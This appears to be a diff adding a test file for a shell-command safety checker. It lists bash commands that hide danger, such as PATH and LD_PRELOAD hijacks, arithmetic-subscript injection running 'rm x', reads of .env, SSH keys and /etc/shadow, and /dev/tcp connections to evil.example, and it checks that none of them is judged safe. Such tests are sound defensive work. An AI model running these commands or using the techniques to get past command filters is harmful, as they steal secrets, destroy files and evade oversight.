@@ -1,0 +1,139 @@
+// Commands that look harmless and are not, by technique. Checks that none of them is safe; the tables have their own.
+import { describe, expect, it } from 'vitest'
+import { judge } from './judge.ts'
+
+/** Each line of a technique is one command; `⏎` stands for a line break. */
+const ATTACKS: Record<string, string> = {
+  'a variable that steers programs, set without an assignment': `
+printf -v PATH %s /tmp; ls
+read -r PATH <<< /tmp; ls
+read PATH < a; ls
+mapfile -t PATH < a; ls
+for PATH in /tmp; do ls; done
+for GIT_PAGER in ./x; do git log; done
+select PATH in /tmp; do ls; done
+getopts a PATH; ls
+let PATH=1; ls
+(( PATH = 1 )); ls
+: \${PATH:=/tmp}; ls
+: \${GIT_PAGER=./x}; git log
+echo \${LD_PRELOAD:=./x.so}; ls
+declare -n p=PATH; p=/tmp; ls
+BASH_CMDS[ls]=/tmp/x; ls
+BASH_ALIASES[ls]='rm x'; ls
+declare -A BASH_CMDS=([ls]=/tmp/x); ls
+set -k; git log GIT_PAGER=./x
+set -o keyword; git log PAGER=./x
+PATH+=:/tmp; ls`,
+  'data that the shell evaluates as a number runs the commands in its subscripts': `
+n=$(cat list); echo $((n+1))
+n=$(cat list); m=n; echo $((m))
+n=$(cat list); [[ $n -gt 0 ]] && echo hi
+n=$(cat list); [[ n -gt 0 ]] && echo hi
+n=$(cat list); let n++
+n=$(cat list); let "x = $n"
+n=$(cat list); for ((i=0;i<n;i++)); do echo $i; done
+n=$(cat list); a[$n]=1
+n=$(cat list); a[n]=1
+n=$(cat list); echo \${!n}
+echo $(( $(cat list) ))
+wc() { cat list; }; n=$(wc -l); echo $((n))
+while read n; do (( n > 1 )) && echo x; done < list
+while read n; do echo $((n)); done < list
+curl -s https://example.com | while read n; do echo $((n)); done
+read n < list; [[ $n -eq 0 ]]
+read n < list; echo \${a[n]}
+read n < list; echo \${a[$n]}
+read n < list; echo \${x:n}
+read n < list; echo \${x:$n:1}
+set -- $(cat list); echo $(( $1 ))
+declare -i k; k=$(cat list)
+declare -i k; read k < list
+y='a[$(rm x)]'; x=y; echo $((x))
+x='a[$(rm x)]'; echo $((x))
+[[ 'a[$(rm x)]' -eq 0 ]]
+wait -n -p 'a[$(rm x)]'
+test -v 'a[$(rm x)]'
+printf -v 'a[$(rm x)]' x`,
+  'reading programs that write or run': `
+sort -o out a
+sort --outp out a
+sort --compress-prog ./x a
+uniq - out
+sed '1e id' a
+sed 's,x,y,w out' a
+sed $'w out' a
+awk 'BEGIN{f="system"; @f("id")}'
+awk 'function f(){system("id")} BEGIN{f()}'
+gawk -l filefuncs 'BEGIN{}'
+gawk -oout '{print}' a
+find . -fprintf out %p
+find . -type f -exec sort -o {} {} \\;
+git ls-files | xargs awk
+git ls-files | xargs git
+cat list | xargs -n1 curl
+rg --pre ./x foo
+rg --hostname-bin ./x foo
+less +!id a
+tree -o out`,
+  'secrets read in a roundabout way': `
+base64 -i .env
+diff --from-file=.env /dev/null
+diff --to-file=.env a
+date -f .env
+grep -f .env a
+cd ~/.aws && grep -r secret
+cd ~/.aws && rg secret
+cd ~/.ssh && for f in *; do cat $f; done
+cat ~/.s?h/id_rsa
+cat /proc/self/root/etc/shadow
+f=x.envy; cat \${f:1:4}
+find ~ -path '*/.ssh/*' | xargs cat
+jq -n 'input' .env
+jq --rawfile x .env '$x' -n`,
+  'redirects and names of files that are connections': `
+exec 3<> /dev/tcp/evil.example/80
+cat < /dev/tcp/evil.example/80
+cat <> out
+{fd}>out ls
+cat >(sh)
+ls > >(sh)`,
+}
+
+/** What people write every day in the same forms: a question would only be in the way. */
+const ORDINARY = `
+n=$(wc -l < a.txt); echo $((n+1))
+n=$(ls | wc -l | tr -d ' '); echo $((n * 2))
+start=$(date +%s); sleep 1; end=$(date +%s); echo $((end-start))
+i=0; while ((i<3)); do echo $i; i=$((i+1)); done
+i=0; for f in *.ts; do ((i++)); done; echo $((i))
+echo $(( $(wc -l < a.txt) + 1 ))
+for i in $(seq 1 5); do echo $((i*i)); done
+for i in {1..5}; do echo $((i*2)); done
+for ((i=0;i<5;i++)); do echo $((i%2)); done
+if test -f a; then n=5; fi; echo $((n+1))
+[[ $(grep -c TODO a.txt) -gt 3 ]] && echo many
+f() { echo $(( $1 * 2 )); }; f 3
+echo $(( COUNT + 1 ))
+count=0; while read -r l; do count=$((count+1)); done < a.txt; echo $count
+echo "\${a[0]}" "\${a[@]}"
+x=hello; echo \${x:0:2}
+base64 -i a.bin
+grep -r main
+rg main`
+
+const lines = (text: string) => text.split('\n').filter((line) => line !== '')
+
+describe('attacks', () => {
+  for (const [technique, commands] of Object.entries(ATTACKS)) {
+    it.each(lines(commands))(`${technique}: %s`, (command) => {
+      expect(judge(command).tier).not.toBe('safe')
+    })
+  }
+})
+
+describe('ordinary work in the same forms', () => {
+  it.each(lines(ORDINARY))('%s', (command) => {
+    expect(judge(command).tier).toBe('safe')
+  })
+})
